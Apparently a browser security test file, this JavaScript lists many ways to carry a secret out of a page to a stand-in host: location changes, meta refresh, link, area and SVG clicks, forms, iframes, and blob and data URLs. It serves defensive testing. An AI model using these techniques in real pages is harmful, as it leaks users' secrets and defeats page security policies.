// Exfiltration by navigation: a page that is left for an address takes the secret along in it.
const away = (what) => `${setup.http}/${what}?d=${secret()}`;

attacks.location = () => void (location.href = away("location"));
attacks["location-replace"] = () => location.replace(away("replace"));
attacks["meta-refresh"] = () => {
  document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${away("refresh")}">`);
};
attacks["link-click"] = () => element("a", { href: away("link"), textContent: "x" }).click();
attacks["area-click"] = () => {
  add(`<map name="m"><area href="${away("area")}"></map>`);
  document.querySelector("area").click();
};
attacks["form-get"] = () => {
  add(`<form action="${away("form-get")}"><input name="d" value="stolen"></form>`);
  document.forms[0].submit();
};
attacks["form-post"] = () => {
  add(`<form method="post" action="${away("form-post")}"><input name="d" value="stolen"></form>`);
  document.forms[0].requestSubmit();
};
attacks["form-multipart-in-child"] = () => {
  const child = element("iframe", { name: "child", srcdoc: "x" });
  add(`<form method="post" enctype="multipart/form-data" target="child" action="${away("child")}"></form>`);
  child.onload = () => document.forms[0].submit();
};
attacks["child-frame"] = () => element("iframe", { src: away("frame") });
attacks["child-frame-location"] = () => {
  const child = element("iframe", { srcdoc: "x" });
  child.onload = () => (child.contentWindow.location = away("child-location"));
};
attacks["child-refresh"] = () => {
  element("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${away("child-refresh")}">` });
};
attacks["svg-link"] = () => {
  add(`<svg><a href="${away("svg")}"><text y="20">x</text></a></svg>`);
  document.querySelector("svg a").dispatchEvent(new MouseEvent("click", { bubbles: true }));
};
attacks["blob-then-away"] = () => {
  const page = `<script>location = ${JSON.stringify(away("from-blob"))}<\/script>`;
  location = URL.createObjectURL(new Blob([page], { type: "text/html" }));
};
attacks["data-then-away"] = () => {
  location = `data:text/html,<meta http-equiv="refresh" content="0;url=${away("from-data")}">`;
};
attacks["proxy-location"] = () => void (parent.location = away("proxy"));
